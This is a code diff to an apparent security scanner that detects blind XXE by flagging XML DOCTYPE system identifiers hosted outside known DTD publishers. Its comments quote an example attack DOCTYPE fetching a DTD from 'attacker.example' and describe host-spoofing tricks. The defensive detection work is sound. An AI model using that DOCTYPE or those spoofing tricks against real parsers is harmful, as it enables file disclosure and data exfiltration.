@@ -27,15 +27,20 @@ _DTD_PUBLISHERS = frozenset((
 
 # A DTD file fetched by system identifier alone (`<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">`) or behind
 # a public id that is a single word rather than a formal `-//Owner//DTD …//EN` one: what blind XXE uses to load
-# parameter entities from its own server. The identifier must name a DTD file (`.dtd`, `.ent`, `.mod`): the DOCTYPE
-# point reads `name system-id`, which is also how prose writes a label and a link (`Website: https://…/?ref=abc`).
-TRIGGERS = [r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?(?:https?|ftp)://\S*\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$"]
-_SYSTEM_ONLY = re.compile(r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?(?:https?|ftp)://(?:[^/\s@]*@)?([^/\s:?#@]*)(?::\d+)?/\S*"
-                          r"\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$", re.I)
+# parameter entities from its own server. In an arbitrary value the identifier must name a DTD file (`.dtd`, `.ent`,
+# `.mod`): `name system-id` is also how prose writes a label and a link (`Website: https://…/?ref=abc`). In the
+# DOCTYPE point of a parsed XML document there is no prose: any system id on a host that is not a standard
+# publisher is a fetch from someone's server, whatever its file name and whatever public id it borrows.
+TRIGGERS = [r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?(?:https?|ftp)://\S*\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$",
+            r"^[\w:.\-]+\s+(?:\S.*\s)?(?:https?|ftp)://[^\s/]+/?\S*\s*$"]
+_URL = r"(?:https?|ftp)://(?:[^/\s@]*@)?([^/\s:?#@]*)(?::\d+)?"
+_SYSTEM_ONLY = re.compile(r"^[\w:.\-]+\s+(?:[^\s/]+\s+)?" + _URL + r"/\S*\.(?:dtd|ent|mod)(?:[?#]\S*)?\s*$", re.I)
+_DOCTYPE = re.compile(r"^[\w:.\-]+\s+(?:\S.*\s)?" + _URL + r"(?:[/?#]\S*)?\s*$", re.I)
 
 
-def analyze(value: str) -> Finding | None:
-    m = _SYSTEM_ONLY.match(value)
+def analyze(value: str, in_doctype: bool = False) -> Finding | None:
+    """`in_doctype`: the value is the DOCTYPE point of a parsed XML document (`name [public-id] system-id`)."""
+    m = (_DOCTYPE if in_doctype else _SYSTEM_ONLY).match(value)
     # exact names: a look-alike (`java.sun.com.attacker.example`) or a userinfo trick (`http://www.w3.org@evil/`) is
     # another host
     if m is not None and m.group(1).lower().rstrip(".") not in _DTD_PUBLISHERS:
